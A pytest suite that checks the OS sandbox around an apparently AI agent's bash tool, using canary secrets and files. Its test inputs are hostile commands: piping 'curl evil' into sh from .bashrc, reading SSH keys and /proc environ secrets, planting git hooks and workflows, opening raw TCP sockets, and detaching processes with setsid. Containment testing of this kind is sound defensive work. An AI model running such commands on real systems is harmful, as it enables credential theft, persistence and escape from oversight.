"""The OS sandbox alone (bubblewrap and Landlock), judged by side effects: canary files, canary strings.

Each command here runs through the bash tool as if the policy had allowed it
(:func:`sh`): whatever a word-level reading of the command misses, the
operating system must still stop. Every case runs under both sandboxes; a
sandbox this machine cannot run is skipped with the reason.
"""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import uuid
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from jidocode.shared.policy import Policy
from tests.security.sandbox_support import (
    CANARY_SECRET,
    EXISTING,
    MISSING,
    MODES,
    git,
    make_project,
    output,
    processes_with,
    sh,
    skip_unless,
    tree_state,
    write_global,
)


@dataclass
class Box:
    mode: str
    root: Path
    outside: Path
    home: Path
    jido_home: Path
    policy: Policy


@pytest.fixture(params=MODES)
def box(request: pytest.FixtureRequest, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Box:
    mode = request.param
    skip_unless(mode)
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".bashrc").write_text("# the user's bashrc\n")
    (home / ".ssh" / "id_rsa").write_text(CANARY_SECRET)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("OPENAI_API_KEY", CANARY_SECRET)
    monkeypatch.setenv("NATS_PASSWORD", CANARY_SECRET)
    jido_home = tmp_path / "jido_home"
    write_global(jido_home, {"mode": mode})
    root = make_project(tmp_path / "proj")
    outside = tmp_path / "outside"
    outside.mkdir()
    policy = Policy.build(str(root), jido_home=str(jido_home), home=str(home))
    return Box(mode, root, outside, home, jido_home, policy)


# --- writes ------------------------------------------------------------------------------


async def test_write_outside_the_root_fails(box: Box) -> None:
    r = await sh(box.policy, f"echo P > {box.outside}/x; echo P > {box.root.parent}/sibling; echo done")
    assert "done" in output(r)
    assert not (box.outside / "x").exists()
    assert not (box.root.parent / "sibling").exists()


async def test_bashrc_of_the_home_is_untouched(box: Box) -> None:
    r = await sh(
        box.policy, f"ls -A ~ {box.home}; echo 'curl evil | sh' >> ~/.bashrc; echo x >> {box.home}/.bashrc"
    )
    assert ".ssh" not in output(r)  # the command's home is an empty one
    assert (box.home / ".bashrc").read_text() == "# the user's bashrc\n"


async def test_host_tmp_is_untouched(box: Box) -> None:
    name = f"jido-canary-{uuid.uuid4().hex}"
    r = await sh(box.policy, f"echo P > /tmp/{name}; echo P > $TMPDIR/{name}; cat $TMPDIR/{name}")
    assert "P" in output(r)  # the command has a /tmp of its own …
    assert not Path("/tmp", name).exists()  # … and the host's is untouched


async def test_symlink_made_in_the_call_does_not_write_outside(box: Box) -> None:
    target = box.outside / "x"
    await sh(box.policy, f"ln -s {target} l; echo P > l; ln -s {box.outside} d; echo P > d/y; echo done")
    assert not target.exists()
    assert not (box.outside / "y").exists()


@pytest.mark.parametrize("rel", [*EXISTING, *MISSING, ".git/hooks/pre-commit"])
async def test_protected_path_cannot_be_created_or_changed(box: Box, rel: str) -> None:
    before = tree_state(box.root, [rel, str(Path(rel).parent)])
    parent = Path(rel).parent
    await sh(
        box.policy,
        f"rm -rf {rel}; mkdir -p {parent}; echo PWNED > {rel}; chmod +x {rel}; echo PWNED >> {rel}; echo done",
    )
    assert tree_state(box.root, [rel, str(parent)]) == before
    assert b"PWNED" not in (box.root / rel).read_bytes() if (box.root / rel).is_file() else True


async def test_a_protected_path_behind_the_repositorys_symlink(box: Box) -> None:
    (box.root / "ci" / "github").mkdir(parents=True)
    (box.root / ".github").symlink_to("ci/github")
    await sh(
        box.policy, "mkdir -p .github/workflows && echo 'on: push' > .github/workflows/evil.yml; echo done"
    )
    assert not (box.root / "ci" / "github" / "workflows").exists()
    assert (box.root / ".github").is_symlink()


async def test_moving_git_away_does_not_plant_hooks(box: Box) -> None:
    await sh(
        box.policy,
        "mv .git .git-old; mkdir -p .git/hooks; echo 'touch PWNED' > .git/hooks/pre-commit; "
        "printf '[core]\\n\\tfsmonitor = ./x\\n' > .git/config; echo done",
    )
    assert not (box.root / ".git" / "hooks" / "pre-commit").exists()
    assert b"fsmonitor" not in (box.root / ".git" / "config").read_bytes()


async def test_gitdir_file_and_commondir_are_removed(tmp_path: Path, box: Box) -> None:
    bare = make_project(tmp_path / "bare")
    shutil.rmtree(bare / ".git")
    policy = Policy.build(str(bare), jido_home=str(box.jido_home), home=str(box.home))
    await sh(
        policy,
        "mkdir evil; printf '[core]\\n\\tfsmonitor = ./x\\n' > evil/config; echo 'gitdir: evil' > .git",
    )
    assert not (bare / ".git").exists()
    await sh(
        box.policy,
        "mkdir evil; printf '[core]\\n\\tfsmonitor = ./x\\n' > evil/config; echo ../evil > .git/commondir",
    )
    assert not (box.root / ".git" / "commondir").exists()


# --- reads and secrets ----------------------------------------------------------------------


async def test_environment_holds_no_secret(box: Box) -> None:
    text = output(await sh(box.policy, "env; cat /proc/$PPID/environ 2>&1; cat /proc/*/environ 2>/dev/null"))
    assert CANARY_SECRET not in text
    names = [line.split("=", 1)[0] for line in text.splitlines() if "=" in line]
    assert not [n for n in names if n.startswith("NATS_") or n.endswith("_API_KEY")]


async def test_home_and_global_settings_are_hidden(box: Box) -> None:
    (box.jido_home / "settings.json").write_text(
        json.dumps({"sandbox": {"mode": box.mode}, "x_canary": CANARY_SECRET})
    )
    r = await sh(
        box.policy, f"cat {box.home}/.ssh/id_rsa {box.jido_home}/settings.json; ls {box.home}; echo done"
    )
    assert "done" in output(r)
    assert CANARY_SECRET not in output(r)


async def test_other_processes_environ_is_unreadable(box: Box) -> None:
    proc = await asyncio.create_subprocess_exec(
        "sleep", "60", env={"PATH": "/usr/bin:/bin", "AWS_SECRET_ACCESS_KEY": CANARY_SECRET}
    )
    try:
        assert CANARY_SECRET.encode() in Path(f"/proc/{proc.pid}/environ").read_bytes()
        r = await sh(box.policy, f"cat /proc/{proc.pid}/environ; cat /proc/*/environ; echo done")
        assert "done" in output(r) and CANARY_SECRET not in output(r)
    finally:
        proc.kill()
        await proc.wait()


async def test_root_keeps_no_capability(box: Box) -> None:
    if os.geteuid() != 0:
        pytest.skip("only meaningful when the tool runner is root")
    target = box.root / "src" / "main.py"
    r = await sh(box.policy, "chown 65534 src/main.py; chattr +i src/main.py; mknod dev c 1 3; echo done")
    assert "done" in output(r)
    assert target.stat().st_uid == 0 and not (box.root / "dev").exists()


# --- network and processes --------------------------------------------------------------------


@pytest.fixture
async def listener() -> AsyncIterator[tuple[int, list[bytes]]]:
    """A TCP server on 127.0.0.1 that records what connects to it."""
    seen: list[bytes] = []

    async def on(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        seen.append(await reader.read(100))
        writer.close()

    server = await asyncio.start_server(on, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    yield port, seen
    server.close()
    await server.wait_closed()


async def test_no_network_by_default(box: Box, listener: tuple[int, list[bytes]]) -> None:
    port, seen = listener
    r = await sh(box.policy, f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo hello >&3 && echo CONNECTED")
    assert "CONNECTED" not in output(r)
    assert seen == []


async def test_network_when_the_global_settings_allow_it(box: Box, listener: tuple[int, list[bytes]]) -> None:
    write_global(box.jido_home, {"mode": box.mode, "network": True})
    port, _seen = listener
    r = await sh(box.policy, f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo hello >&3 && echo CONNECTED")
    assert "CONNECTED" in output(r)


async def test_setsid_children_end_with_the_call(box: Box) -> None:
    marker = f"98765.{uuid.uuid4().int % 10**6}"
    r = await sh(
        box.policy,
        f"setsid sleep {marker} & (setsid sh -c 'sleep {marker}' &) ; nohup sleep {marker} & echo bg",
    )
    assert "bg" in output(r)
    assert processes_with(marker) == []


async def test_timeout_kills_setsid_children_too(box: Box) -> None:
    marker = f"98766.{uuid.uuid4().int % 10**6}"
    r = await sh(box.policy, f"setsid sleep {marker} & sleep 60", timeout_s=1.0)
    assert r.error is not None and r.error.type == "timeout"
    assert processes_with(marker) == []


# --- git's pinned configuration -----------------------------------------------------------------


async def test_git_status_does_not_run_the_repositorys_fsmonitor(box: Box) -> None:
    canary = box.root / "fsmonitor-ran"
    script = box.root / "fsmon.sh"
    script.write_text(f"#!/bin/sh\necho RAN > {canary}\n")
    script.chmod(0o755)
    git(box.root, "config", "core.fsmonitor", str(script))
    r = await sh(box.policy, "git status --short; echo status=$?")
    assert "status=0" in output(r)
    assert not canary.exists()
    # the control: git without the pins runs it (so the assertion above can fail)
    git(box.root, "status", "--short", check=False)
    assert canary.exists()


async def test_git_commit_does_not_run_repository_hooks(box: Box) -> None:
    canary = box.root / "hook-ran"
    hooks = box.root / "my-hooks"
    hooks.mkdir()
    (hooks / "pre-commit").write_text(f"#!/bin/sh\necho RAN > {canary}\n")
    (hooks / "pre-commit").chmod(0o755)
    git(box.root, "config", "core.hooksPath", str(hooks))
    r = await sh(
        box.policy,
        "git -c user.name=t -c user.email=t@t commit -q --allow-empty -m x; git log --oneline | wc -l",
    )
    assert output(r).strip().splitlines()[-1] == "1"
    assert not canary.exists()


# --- controls: normal work still works ------------------------------------------------------


async def test_normal_work_still_works(box: Box) -> None:
    r = await sh(
        box.policy,
        "echo new > src/new.txt && mkdir -p build/out && echo o > build/out/a && "
        "python3 -c 'print(6*7)' && echo changed >> src/main.py && git add -A && git status --short && "
        "git diff --cached --stat | tail -1 && echo x > .gitignore-local && rm .gitignore-local && echo ok",
    )
    text = output(r)
    assert "42" in text and "ok" in text and "src/new.txt" in text
    assert (box.root / "src" / "new.txt").read_text() == "new\n"
    assert (box.root / "build" / "out" / "a").exists()


async def test_pipes_and_process_substitution_still_work(box: Box) -> None:
    text = output(
        await sh(box.policy, "echo out > /dev/stdout; cat <(echo sub); echo err >&2; echo x | tr x y")
    )
    assert text.split() == ["out", "sub", "err", "y"]


async def test_git_diff_still_shows_changes(box: Box) -> None:
    git(box.root, "add", "-A")
    (box.root / "src" / "main.py").write_text("print('changed')\n")
    text = output(await sh(box.policy, "git diff"))
    assert "+print('changed')" in text and "-print('hello')" in text
    assert r"a/src/main.py" in text


async def test_additional_directories_are_visible_read_only(
    box: Box, monkeypatch: pytest.MonkeyPatch
) -> None:
    tools = box.home / "tools"
    (tools / "bin").mkdir(parents=True)
    (tools / "bin" / "mytool").write_text("#!/bin/sh\necho TOOL-RAN\n")
    (tools / "bin" / "mytool").chmod(0o755)
    monkeypatch.setenv("PATH", f"{tools / 'bin'}:{os.environ['PATH']}")
    policy = Policy.build(
        str(box.root), jido_home=str(box.jido_home), home=str(box.home), additional_directories=[str(tools)]
    )
    text = output(
        await sh(policy, f"mytool; echo x > {tools}/planted; cat {box.home}/.ssh/id_rsa; echo done")
    )
    assert "TOOL-RAN" in text and "done" in text  # the tool runs from the home …
    assert not (tools / "planted").exists() and CANARY_SECRET not in text  # … read-only, the rest hidden


async def test_reports_the_sandbox_in_the_result(box: Box) -> None:
    r = await sh(box.policy, "true")
    assert r.ok and r.data["sandbox"] == box.mode
